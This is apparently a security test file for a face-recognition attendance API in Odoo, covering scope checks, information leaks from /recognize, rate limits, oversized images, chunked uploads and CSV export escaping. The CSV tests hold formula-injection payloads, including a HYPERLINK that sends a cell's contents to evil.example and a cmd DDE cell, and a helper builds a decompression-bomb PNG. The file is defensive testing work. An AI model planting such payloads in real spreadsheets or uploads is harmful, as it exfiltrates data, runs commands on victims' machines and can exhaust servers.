"""The REST API as an attacker uses it: every scope against every route, hostile images and
bodies, what /recognize tells a stranger, rate limits shared by every process, CSV injection."""

import base64
import csv
import http.client
import io
import logging
import re
import struct
import zlib
from unittest.mock import patch
from urllib.parse import urlparse

from odoo.tests import new_test_user, tagged
from odoo.tests.common import TEST_CURSOR_COOKIE_NAME

from odoo.addons.face_attendance.models.face_api_key import SCOPES

from .common import ApiCase, face_b64, face_photo, release_test_lock, stranger_photo

EXAMPLE_IDS = {
    "{person_id}": "SEC-P1",
    "{face_id}": "1",
    "{attendance_id}": "1",
    "{camera_id}": "1",
    "{date}": "2026-11-20",
    "{day}": "2026-11-20",
}


def png_claiming(width, height):
    """A valid, tiny PNG whose header claims ``width`` x ``height`` pixels."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


@tagged("post_install", "-at_install", "face_attendance", "face_attendance_security")
class TestApiSecurity(ApiCase):
    def setUp(self):
        super().setUp()
        self.employee = self.env["hr.employee"].create({"name": "Sec Person", "person_ref": "SEC-P1"})
        self.env["face.template"].create({"employee_id": self.employee.id, "image": face_b64("Kofi_Annan", 1)})
        self.camera = self.env["face.camera"].create(
            {"name": "Sec cam", "source_type": "file", "source": "x", "direction": "entry"}
        )

    def assertRefused(self, response, payload, status, code):
        """An error in the envelope of /api/v1, or in the compatibility routes' FastAPI shape: its details."""
        if payload and "detail" in payload:
            self.assertEqual((response.status_code, payload["code"]), (status, code), payload)
            return payload["details"]
        self.assertError(response, payload, status, code)
        return payload["error"]["details"]

    def test_every_scope_against_every_route(self):
        _response, spec = self.api("GET", "/openapi.json", key="")
        Key = self.env["face.api.key"]
        keys = {scope: Key._generate("only %s" % scope, self.manager, scope)[1] for scope in SCOPES if scope != "*"}
        checked = 0
        for route, item in spec["paths"].items():
            # Compatibility routes (their own server: the host's root) answer in their backend's shape.
            prefix = "" if "servers" in item else "/api/v1"
            path = route
            for placeholder, value in EXAMPLE_IDS.items():
                path = path.replace(placeholder, value if prefix else "1")
            # Any other path parameter: an id that exists or not, the scope is checked first.
            path = re.sub(r"\{\w+\}", "1", path)
            for method, operation in item.items():
                if method in ("parameters", "servers") or not operation.get("x-required-scope"):
                    continue
                scope = operation["x-required-scope"]
                response, payload = self.api(method.upper(), path, key="", prefix=prefix)
                self.assertRefused(response, payload, 401, "UNAUTHORIZED")
                for granted, secret in keys.items():
                    response, _none = self.api(
                        method.upper(),
                        path,
                        body={} if method in ("post", "put") else None,
                        key=secret,
                        expect_json=False,
                        prefix=prefix,
                    )
                    is_json = response.headers["Content-Type"].startswith("application/json")
                    payload = response.json() if is_json else None
                    with self.subTest(route=route, method=method, granted=granted):
                        if granted == scope:
                            refused = isinstance(payload, dict) and (payload.get("error") or payload)
                            details = (refused or {}).get("details") or {}
                            self.assertFalse(
                                response.status_code == 403 and details.get("required_scope") == scope, payload
                            )
                        else:
                            details = self.assertRefused(response, payload, 403, "FORBIDDEN")
                            self.assertEqual(details["required_scope"], scope)
                    checked += 1
        self.assertGreaterEqual(checked, 30 * (len(SCOPES) - 1))

    def test_erasing_biometric_data_needs_face_write(self):
        _key, writer = self.env["face.api.key"]._generate("writer", self.manager, "person:write")
        response, payload = self.api("DELETE", "/persons/SEC-P1?erase=true", key=writer)
        self.assertError(response, payload, 403, "FORBIDDEN")
        self.assertEqual(payload["error"]["details"]["required_scope"], "face:write")
        self.assertTrue(self.employee.active)
        self.assertEqual(self.employee.face_count, 1)
        _key, both = self.env["face.api.key"]._generate("both", self.manager, "person:write face:write")
        response, payload = self.api("DELETE", "/persons/SEC-P1?erase=true", key=both)
        self.assertEqual(response.status_code, 200, payload)
        self.assertEqual(self.employee.with_context(active_test=False).face_count, 0)

    def test_recognize_tells_strangers_nothing(self):
        response, payload = self.api(
            "POST", "/recognize", {"image": base64.b64encode(face_photo("Kofi_Annan", 3)).decode()}
        )
        face = payload["data"]["faces"][0]
        self.assertEqual(face["person_id"], "SEC-P1", payload)
        self.assertIsNotNone(face["distance"])
        response, payload = self.api(
            "POST", "/recognize", {"image": base64.b64encode(stranger_photo("Aaron_Pena")).decode()}
        )
        self.assertEqual(response.status_code, 200, payload)
        for face in payload["data"]["faces"]:
            self.assertIsNone(face["person_id"])
            self.assertIsNone(face["distance"], "a stranger must not learn how close they came")
            self.assertIsNone(face["confidence"])
        # A key of a user who may not see that person: no name, no id, no distance.
        other_company = self.env["res.company"].create({"name": "Elsewhere"})
        outsider = new_test_user(
            self.env,
            login="sec_outsider",
            company_id=other_company.id,
            company_ids=[(6, 0, [other_company.id])],
            groups="base.group_user,face_attendance.group_face_attendance_manager",
        )
        _key, outsider_secret = self.env["face.api.key"]._generate(
            "outsider", outsider, "recognize", company=other_company
        )
        response, payload = self.api(
            "POST", "/recognize", {"image": base64.b64encode(face_photo("Kofi_Annan", 3)).decode()}, key=outsider_secret
        )
        face = payload["data"]["faces"][0]
        self.assertEqual(
            (face["person_id"], face["name"], face["employee_id"], face["distance"]), (None, None, None, None), payload
        )
        # A duplicate person ID says nothing about people of other companies.
        self.env["hr.employee"].create({"name": "Hidden", "person_ref": "SEC-HIDDEN", "company_id": other_company.id})
        response, payload = self.api("POST", "/persons", {"person_id": "SEC-HIDDEN", "name": "Visible"})
        self.assertEqual(response.status_code, 201, payload)
        response, payload = self.api("POST", "/persons", {"person_id": "SEC-HIDDEN", "name": "Again"})
        self.assertError(response, payload, 409, "CONFLICT")

    @patch("odoo.addons.face_attendance.models.face_api_key._clock", return_value=1_800_000_010.0)
    def test_rate_limit_counts_every_call_in_the_database(self, _clock):
        key, secret = self.env["face.api.key"]._generate("tight", self.manager, "*")
        key.sudo().write({"rate_limit_per_minute": 3})
        image = base64.b64encode(face_photo("Kofi_Annan", 3)).decode()
        for _attempt in range(3):
            response, payload = self.api("POST", "/recognize", {"image": image}, key=secret)
            self.assertEqual(response.status_code, 200, payload)
        response, payload = self.api("POST", "/recognize", {"image": image}, key=secret)
        self.assertError(response, payload, 429, "RATE_LIMITED")
        self.assertTrue(int(response.headers["Retry-After"]) >= 1)
        # The count is one row in PostgreSQL, shared by every worker process: another process's
        # requests (written here as that process would) count against this one's too.
        other, other_secret = self.env["face.api.key"]._generate("shared", self.manager, "*")
        other.sudo().write({"rate_limit_per_minute": 5})
        self.api("GET", "/persons", key=other_secret)
        self.env.cr.execute("SELECT hits FROM face_api_rate_hit WHERE key_id = %s", [other.id])
        self.assertEqual(self.env.cr.fetchone()[0], 1)
        self.env.cr.execute("UPDATE face_api_rate_hit SET hits = hits + 4 WHERE key_id = %s", [other.id])
        response, payload = self.api("GET", "/persons", key=other_secret)
        self.assertError(response, payload, 429, "RATE_LIMITED")

    def test_images_are_measured_before_they_are_decoded(self):
        bomb = base64.b64encode(png_claiming(30000, 30000)).decode()
        self.assertLess(len(bomb), 200)
        response, payload = self.api("POST", "/persons/SEC-P1/register-face", {"image": bomb})
        self.assertError(response, payload, 413, "IMAGE_TOO_LARGE")
        self.assertEqual((payload["error"]["details"]["width"], payload["error"]["details"]["height"]), (30000, 30000))
        response, payload = self.api("POST", "/recognize", {"image": bomb})
        self.assertError(response, payload, 413, "IMAGE_TOO_LARGE")
        response, payload = self.api(
            "POST",
            "/persons/SEC-P1/register-face",
            files={"file": ("bomb.png", png_claiming(30000, 30000), "image/png")},
        )
        self.assertError(response, payload, 413, "IMAGE_TOO_LARGE")
        response, payload = self.api(
            "POST",
            "/events",
            {
                "events": [
                    {
                        "event_id": "bomb-1",
                        "camera_id": self.camera.id,
                        "timestamp": "2026-11-20T08:00:00Z",
                        "snapshot": bomb,
                    }
                ]
            },
        )
        self.assertEqual(payload["data"]["results"][0]["status"], "invalid", payload)
        tiff = base64.b64encode(b"II*\x00\x08\x00\x00\x00" + b"\x00" * 64).decode()
        response, payload = self.api("POST", "/recognize", {"image": tiff})
        self.assertError(response, payload, 422, "NOT_AN_IMAGE")
        self.assertEqual(self.employee.face_count, 1)

    def _raw_chunked(self, path, chunks, content_type="application/json"):
        url = urlparse(self.base_url())
        connection = http.client.HTTPConnection(url.hostname, url.port, timeout=60)
        try:
            connection.putrequest("POST", "/api/v1" + path)
            connection.putheader("X-API-Key", self.secret)
            connection.putheader("Content-Type", content_type)
            connection.putheader("Transfer-Encoding", "chunked")
            connection.putheader("Cookie", "%s=%s" % (TEST_CURSOR_COOKIE_NAME, self.http_request_key))
            with release_test_lock():
                connection.endheaders()
                try:
                    for chunk in chunks:
                        connection.send(b"%x\r\n%s\r\n" % (len(chunk), chunk))
                    connection.send(b"0\r\n\r\n")
                except (BrokenPipeError, ConnectionResetError) as error:
                    # The server may answer and close before the body's end: its answer is what counts.
                    logging.getLogger(__name__).info("The server closed the upload early: %s", error)
                response = connection.getresponse()
                return response.status, response.read()
        finally:
            connection.close()

    def test_chunked_bodies_are_bounded_too(self):
        self.env["face.attendance.config"].set("max_image_bytes", 1024)
        limit = 1024 * 4 // 3 + 64 * 1024
        # Within the limit, chunked is an ordinary body.
        status, body = self._raw_chunked("/persons", [b'{"person_id": "SEC-CH1", ', b'"name": "Chunked"}'])
        self.assertEqual(status, 201, body)
        # Over it: 413 in the API's envelope, the body never parsed.
        filler = b"x" * 65536
        status, body = self._raw_chunked(
            "/persons", [b'{"person_id": "SEC-CH2", "name": "'] + [filler] * (limit // 65536 + 2) + [b'"}']
        )
        self.assertEqual(status, 413, body[:300])
        self.assertIn(b"PAYLOAD_TOO_LARGE", body)
        boundary = b"xyzzy"
        multipart = (
            b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n'
            b"Content-Type: image/jpeg\r\n\r\n"
        )
        status, body = self._raw_chunked(
            "/persons/SEC-P1/register-face",
            [multipart] + [filler] * (limit // 65536 + 2) + [b"\r\n--xyzzy--\r\n"],
            content_type="multipart/form-data; boundary=xyzzy",
        )
        self.assertEqual(status, 413, body[:300])
        self.assertFalse(self.env["hr.employee"].search_count([("person_ref", "=", "SEC-CH2")]))

    def test_csv_cells_cannot_become_formulas(self):
        self.employee.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        self.env["hr.employee"].create({"name": '@SUM(1+1)*cmd|" /C calc"!A0', "person_ref": "-2+3"})
        self.api("POST", "/attendance/mark", {"person_id": "SEC-P1"})
        self.api("POST", "/attendance/mark", {"person_id": "-2+3"})
        response, _payload = self.api("GET", "/attendance/export", expect_json=False)
        self.assertEqual(response.status_code, 200, response.text[:300])
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        cells = [cell for row in rows[1:] for cell in row]
        self.assertIn('\'=HYPERLINK("http://evil.example/?"&A1,"click")', cells)
        self.assertIn("'-2+3", cells)
        self.assertIn('\'@SUM(1+1)*cmd|" /C calc"!A0', cells)
        self.assertFalse([cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells)

    def test_camera_export_cells_cannot_become_formulas(self):
        # One CSV writer for every export: the cameras' names and places are neutralised too.
        self.env["face.camera"].create(
            {"name": '=HYPERLINK("http://evil.example")', "location": "+1+1", "source_type": "webcam", "source": "0"}
        )
        response, _payload = self.api("GET", "/cameras/export?format=csv", expect_json=False)
        self.assertEqual(response.status_code, 200, response.text[:300])
        cells = [cell for row in list(csv.reader(io.StringIO(response.text)))[1:] for cell in row]
        self.assertIn('\'=HYPERLINK("http://evil.example")', cells)
        self.assertIn("'+1+1", cells)
        self.assertFalse([cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells)

    def test_log_lines_carry_the_real_user_company_and_address(self):
        self.api(
            "POST", "/persons", {"person_id": "SEC-LOG", "name": "Logged"}, headers={"X-Forwarded-For": "203.0.113.9"}
        )
        line = self.env["face.system.log"].search([("action", "=", "person.create")], limit=1)
        self.assertEqual(line.user_id, self.manager)
        self.assertEqual(line.company_id, self.manager.company_id)
        self.assertEqual(line.address, "127.0.0.1")
        self.assertIn("integration", line.api_key_name)
